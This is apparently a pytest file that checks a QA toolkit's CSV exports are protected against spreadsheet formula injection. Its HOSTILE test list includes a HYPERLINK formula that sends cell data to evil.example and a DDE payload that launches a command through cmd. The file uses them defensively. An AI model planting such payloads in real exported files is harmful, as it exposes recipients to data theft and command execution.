"""CSV formula injection (issue 20 item 16): exported cells that a spreadsheet would run as formulas are
neutralised as OWASP says, in one place every CSV export uses; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

from typer.testing import CliRunner

from qa_toolkit.cli import app
from qa_toolkit.reports.csvsafe import Writer, safe_cell
from qa_toolkit.storage.database import Database
from reports_factory import agent, at, interaction

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


def test_safe_cell_prefixes_formula_text_only() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert [safe_cell(v) for v in ("Ann", "a=b", "", None, -3.5, -2, 0, True)] == ["Ann", "a=b", "", None, -3.5, -2,
                                                                                   0, True]
    out = io.StringIO()
    Writer(out).writerow(["=1+1", -1.5, 'say "hi", ok'])
    assert out.getvalue() == "'=1+1,-1.5,\"say \"\"hi\"\", ok\"\n"


def test_kpis_csv_neutralises_agent_names_and_teams(db: Database) -> None:
    with db.session() as session:
        evil = agent(session, "a-1", HOSTILE[0], team="@team", hired_at=date(2025, 1, 1))
        interaction(session, evil, "1", at(1, 9), customer_external_id="c1", queue="=queue", csat=1, nps=0,
                    resolved=True, escalated=False, duration_s=300)
    runner = CliRunner()
    for by, column in (("agent", "label"), ("team", "group"), ("queue", "group")):
        result = runner.invoke(app, ["report", "kpis", "--by", by, "--period", "2026-10", "--format", "csv",
                                     "--db", db.url])
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(io.StringIO(result.output)))
        cells = [v for row in rows for v in row.values() if v]
        risky = [c for c in cells if c[0] in "=+-@\t\r"]
        assert risky and all(float(c) < 0 for c in risky), risky  # only negative numbers, written as numbers
        assert rows[0][column].startswith("'")
        assert float(rows[0]["nps"]) == -100.0  # a negative number stays a number
        assert result.output.count(",-100.0") >= 1


def test_every_csv_export_goes_through_csvsafe() -> None:
    """Only csvsafe (and the import rejects file, re-imported as it was) may use the csv module's writers."""
    package = Path(__file__).resolve().parents[1] / "qa_toolkit"
    allowed = {"reports/csvsafe.py", "ingest/formats/csv.py"}
    offenders = [str(p.relative_to(package)) for p in package.rglob("*.py")
                 if str(p.relative_to(package)) not in allowed
                 and re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8"))]
    assert offenders == []
